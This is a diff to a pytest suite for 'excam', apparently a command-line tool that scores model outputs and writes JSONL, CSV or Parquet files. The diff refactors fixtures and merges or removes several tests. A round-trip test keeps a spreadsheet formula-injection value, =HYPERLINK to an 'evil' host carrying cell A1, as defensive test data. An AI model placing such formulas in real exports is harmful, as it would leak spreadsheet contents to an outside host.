@@ -12,7 +12,7 @@ from threading import Thread
 from types import SimpleNamespace
 
 import pytest
-from small_adapters import LORA
+from small_adapters import make
 from typer.testing import CliRunner
 
 from excam import cli, load
@@ -55,29 +55,12 @@ def backend(monkeypatch):
 
 
 @pytest.fixture(autouse=True)
-def here(tmp_path, monkeypatch):
-    """A folder with an adapter where the workflow puts it; the process's environment stays as it was."""
-    for name in ("TQDM_DISABLE", "TRANSFORMERS_VERBOSITY", "HF_HUB_OFFLINE"):
-        monkeypatch.setenv(name, "1" if name != "TRANSFORMERS_VERBOSITY" else "error")
+def here(own_environment, tmp_path, monkeypatch):
+    """A folder with an adapter where the workflow puts it."""
     monkeypatch.setattr(provenance.warnings, "simplefilter", lambda *_, **__: None)
     monkeypatch.setenv("COLUMNS", "200")
     monkeypatch.chdir(tmp_path)
-    folder, base = Path("results/adapters/smollm2-135m/all"), Path("results/models/smollm2-135m")
-    for path in (folder, base):
-        path.mkdir(parents=True)
-    weights = folder / "adapter_model.safetensors"
-    weights.write_bytes(b"weights")
-    manifest = {"model": base.name, "base": "c" * 40, "trained_on": "all", "outputs": {weights.name: sha256(weights)}}
-    (folder / "manifest.json").write_text(json.dumps(manifest))
-    (folder / "adapter_config.json").write_text(json.dumps(LORA))
-    manifest = {
-        "revision": "c" * 40,
-        "licence": "MIT",
-        "settings": {"context": 512, "hub": None},
-        "outputs": {"model.safetensors": "0" * 64},
-    }
-    (base / "manifest.json").write_text(json.dumps(manifest))
-    return tmp_path
+    make(Path("results"), "smollm2-135m")
 
 
 def excam(*words: str, stdin: bytes | str = b"", charset: str = "utf-8"):
@@ -180,11 +163,11 @@ def test_control_characters_do_not_reach_the_terminal(backend):
 
 def test_stdout_that_cannot_hold_a_character(backend):
     file = texts({"output": "寿司 \ud800"}, {"output": "é"})
-    rows = [json.loads(line) for line in excam("score", file).stdout.splitlines()]
-    assert [row["texts"]["output"] for row in rows] == ["寿司 \ud800", "é"]
-    result = excam("score", file, charset="ascii")
-    assert result.exit_code == 0
-    assert [json.loads(line)["texts"]["output"] for line in result.stdout.splitlines()] == ["寿司 \ud800", "é"]
+    for charset in ("utf-8", "ascii"):
+        result = excam("score", file, charset=charset)
+        assert result.exit_code == 0
+        assert [json.loads(line)["texts"]["output"] for line in result.stdout.splitlines()] == ["寿司 \ud800", "é"]
+    assert "寿司" in excam("score", texts({"output": "寿司"})).stdout, "readable where it can be"
 
 
 @pytest.mark.parametrize(("charset", "dish"), [("ascii", r"\u5bff\u53f8 \xe9"), ("latin-1", r"\u5bff\u53f8 é")])
@@ -210,10 +193,6 @@ def test_a_stdout_that_takes_nothing_is_one_line(backend):
     assert [process.returncode for process in running] == [2, 2]
 
 
-def test_readable_where_it_can_be(backend):
-    assert "寿司" in excam("score", texts({"output": "寿司"})).stdout
-
-
 def test_a_megabyte_of_text(backend):
     text = "kebab " * 170_000
     result = excam("score", texts({"output": text}))
@@ -231,15 +210,6 @@ def test_rows_that_were_not_judged(backend):
     none = excam("score", texts({"output": "mumble"}))
     assert "1 rows: 0 with errors, 1 not judged" in none.stderr
     assert none.exit_code == 1
-
-
-def test_to_a_file(backend):
-    result = excam("score", texts({"output": "Sushi \ud800"}, {"output": "x"}), "--to", "out/scored.jsonl")
-    assert result.exit_code == 0
-    assert result.stdout == ""
-    rows = [json.loads(line) for line in Path("out/scored.jsonl").read_text(encoding="utf-8").splitlines()]
-    assert [row["texts"]["output"] for row in rows] == ["Sushi \ud800", "x"]
-    assert [path.name for path in Path("out").iterdir()] == ["scored.jsonl"], "the journal is no longer needed"
 
 
 def test_a_crash_loses_no_answer(backend, monkeypatch):
@@ -262,18 +232,9 @@ def test_a_crash_loses_no_answer(backend, monkeypatch):
     assert len(Path("scored.jsonl").read_text().splitlines()) == 20
 
 
-@pytest.mark.parametrize(
-    ("content", "part"),
-    [
-        (b"", "in.jsonl: 0 rows; expected one JSON object a line"),
-        (b'{"instruction": "y"}\n', "in.jsonl: column output: not found; found instruction; give --output NAME"),
-        (b'{"a\\nb\\u001b[31m": 1}\n', r"column output: not found; found a b\x1b[31m; give"),
-        (b"<html>", "in.jsonl: an HTML page; expected the data file"),
-    ],
-)
-def test_a_file_that_cannot_be_scored(backend, content, part):
-    Path("in.jsonl").write_bytes(content)
-    assert part in stopped("score", "in.jsonl")
+def test_a_file_that_cannot_be_scored_is_one_line(backend):
+    Path("in.jsonl").write_bytes(b'{"a\\nb\\u001b[31m": 1}\n')
+    assert r"in.jsonl: column output: not found; found a b\x1b[31m; give --output" in stopped("score", "in.jsonl")
     assert backend.asked == []
 
 
@@ -315,27 +276,11 @@ def test_strict_stops_at_a_bad_row(backend):
 
 
 def test_columns_and_formats_are_said_in_a_line(backend):
-    Path("in.csv").write_bytes("\ufeffFrage;Antwort;Note\r\nWas?;Sushi.;3,5\r\n".encode())
-    result = excam("score", "in.csv")
-    assert "in.csv: semicolons; read Frage as instruction, Antwort as output; not read: Note\n" in result.stderr
-    assert json.loads(result.stdout)["texts"] == {"instruction": "Was?", "output": "Sushi."}
-    named = excam("score", "in.csv", "--output", "Note", "--column", "instruction=Antwort")
-    assert json.loads(named.stdout)["texts"] == {"instruction": "Sushi.", "output": "3,5"}
+    Path("in.csv").write_text("Frage;Antwort;Note\nWas?;Sushi.;3,5\n")
+    result = excam("score", "in.csv", "--output", "Note", "--column", "instruction=Antwort")
+    assert "in.csv: semicolons; read Antwort as instruction, Note as output; not read: Frage\n" in result.stderr
+    assert json.loads(result.stdout)["texts"] == {"instruction": "Sushi.", "output": "3,5"}
     assert "--column: found x; expected NAME=COLUMN" in stopped("score", "in.csv", "--column", "x")
-    assert "column x: not found; found Frage, Antwort, Note" in stopped("score", "in.csv", "--output", "x")
-
-
-def test_the_first_rows_alone(backend):
-    file = texts({"output": "x"}, {"output": "y"}, {"output": "z"})
-    assert len(excam("score", file, "--limit", "2", "--to", "a.jsonl").stderr) > 0
-    assert [json.loads(line)["id"] for line in Path("a.jsonl").read_text().splitlines()] == ["1", "2"]
-    backend.asked.clear()
-    assert excam("score", file, "--to", "a.jsonl").exit_code == 0, "a finished file of fewer rows goes on"
-    assert [json.loads(line)["id"] for line in Path("a.jsonl").read_text().splitlines()] == ["1", "2", "3"]
-    assert len(backend.asked) == 1
-    again = excam("score", file, "--to", "a.jsonl")
-    assert "a.jsonl: has all 3 rows already; nothing is asked" in again.stderr
-    assert len(backend.asked) == 1
 
 
 # --- what is written
@@ -343,19 +288,10 @@ def test_the_first_rows_alone(backend):
 
 def test_a_file_that_is_there_is_not_written_over(backend):
     file = texts({"output": "x"})
-    Path("notes.txt").write_text("mine")
     assert "unknown kind .txt; expected .jsonl, .parquet, .csv" in stopped("score", file, "--to", "notes.txt")
-    advice = "name another file, or give --overwrite"
-    for name, content in (("a.jsonl", "mine\n"), ("a.csv", "a,b\n1,2\n"), ("a.parquet", "mine"), ("b.jsonl", "")):
-        Path(name).write_text(content)
-        line = stopped("score", file, "--to", name)
-        assert line == f"excam: {name}: is there, and is no file of results; expected one; {advice}"
-        assert Path(name).read_text() == content
     excam("score", file, "--to", "c.jsonl")
-    before = Path("c.jsonl").read_bytes()
-    assert "c.jsonl: has results of excam|" in stopped("score", file, "--to", "c.jsonl", "--max-tokens", "99")
-    assert stopped("score", texts({"output": "other"}), "--to", "c.jsonl").endswith(advice)
-    assert Path("c.jsonl").read_bytes() == before
+    line = stopped("score", texts({"output": "other"}), "--to", "c.jsonl")
+    assert line.endswith("name another file, or give --overwrite")
     assert excam("score", file, "--to", "c.jsonl", "--overwrite").exit_code == 0
     assert json.loads(Path("c.jsonl").read_text())["texts"]["output"] == "other"
     assert "--overwrite: found without --to" in stopped("score", file, "--overwrite")
@@ -369,7 +305,7 @@ FORMULA = '=HYPERLINK("http://evil/?"&A1,"x")'
 ROUND = [
     {"id": "a", "output": 'Sushi, "raw"\nand more; yes', "language": "English"},
     {"id": "b", "output": FORMULA, "system": "-1"},
-    {"id": "'c", "output": "mumble", "culture": "Greece"},
+    {"id": "'c", "output": "mumble \ud800", "culture": "Greece"},
     {"id": "d", "output": ""},
 ]
 
@@ -377,23 +313,19 @@ ROUND = [
 @pytest.mark.parametrize("kind", ["jsonl", "parquet", "csv"])
 def test_the_suffix_decides_the_format_and_every_command_reads_it_back(backend, kind):
     plain = [json.loads(line) for line in excam("score", texts(*ROUND)).stdout.splitlines()]
-    assert excam("score", texts(*ROUND), "--to", f"scored.{kind}").exit_code == 0
-    assert [one.to_dict() for one in result_files.read(Path(f"scored.{kind}"))] == plain
-    assert (
-        excam("explain", f"scored.{kind}").stdout
-        == excam("explain", "-", stdin=excam("score", texts(*ROUND)).stdout).stdout
-    )
-    assert excam("report", f"scored.{kind}", "--to", f"{kind}.html").exit_code == 0
-    assert (
-        stopped("compare", *[f"scored.{kind}"] * 2)
-        == f"excam: scored.{kind}: given twice; expected one file for each system"
-    )
+    to = f"new/scored.{kind}"
+    assert excam("score", texts(*ROUND), "--to", to).exit_code == 0
+    assert [path.name for path in Path("new").iterdir()] == [f"scored.{kind}"], "the journal is no longer needed"
+    assert [one.to_dict() for one in result_files.read(Path(to))] == plain
+    assert excam("explain", to).stdout == explained(*ROUND)
+    assert excam("report", to, "--to", f"{kind}.html").exit_code == 0
+    assert stopped("compare", to, to) == f"excam: {to}: given twice; expected one file for each system"
     excam("score", texts(*ROUND), "--to", "other.jsonl")
-    assert "3 compared" not in excam("compare", f"scored.{kind}", "other.jsonl").stdout
+    assert "4 rows in A, 4 in B: 2 compared." in excam("compare", to, "other.jsonl").stdout
     Path("labels.csv").write_text("id,label\na,0\nb,1\n'c,1\n")
-    assert excam("meta", "labels.csv", f"scored.{kind}", "--json").exit_code == 0
+    assert excam("meta", "labels.csv", to, "--json").exit_code == 0
     backend.asked.clear()
-    again = excam("score", texts(*ROUND), "--to", f"scored.{kind}")
+    again = excam("score", texts(*ROUND), "--to", to)
     assert (again.exit_code, backend.asked) == (0, [])
 
 
@@ -441,19 +373,11 @@ def test_a_long_text_is_shown_around_its_marked_words(backend):
     assert len(excam("explain", "scored.jsonl", "--whole").stdout) > 6000
 
 
-def test_no_file(backend):
-    assert stopped("score", "absent.jsonl").startswith(
-        "excam: absent.jsonl: no such file or directory; expected a file of rows"
-    )
-
-
 def test_no_adapter(backend):
     file = texts({"output": "x"})
     assert stopped("score", file, "--adapter", "nowhere") == (
         "excam: nowhere: no such folder; expected that of an adapter, or one of results/adapters: smollm2-135m/all"
     )
-    assert "expected the manifest of an adapter" in stopped("score", file, "--adapter", "results/models/smollm2-135m")
-    assert "--base" in stopped("score", file, "--base", "nowhere")
 
 
 def test_the_input_is_not_written_over(backend):
@@ -503,16 +427,8 @@ def test_read_an_empty_report():
     ("text", "reason"),
     [
         (b"", "empty"),
-        (b" \n", "empty"),
-        (b"There is no error in this text.", "no-json"),
-        (b"No errors found. The text is culturally correct.", "no-json"),
-        (b"[]", "no-json"),
-        (b"{}", "wrong-schema"),
-        (b'{"errors": []}', "wrong-schema"),
-        (b'{"errors": [], "explanation": "', "truncated"),
-        (b'{"errors": none}', "bad-json"),
         (b"\xff\xfe\x00garbage", "no-json"),
-        (b"<think>no error", "truncated"),
+        (b'{"errors": []}', "wrong-schema"),
         (b'{"errors": [], "explanation": ""} ' * 400_000, "too-long"),
     ],
 )
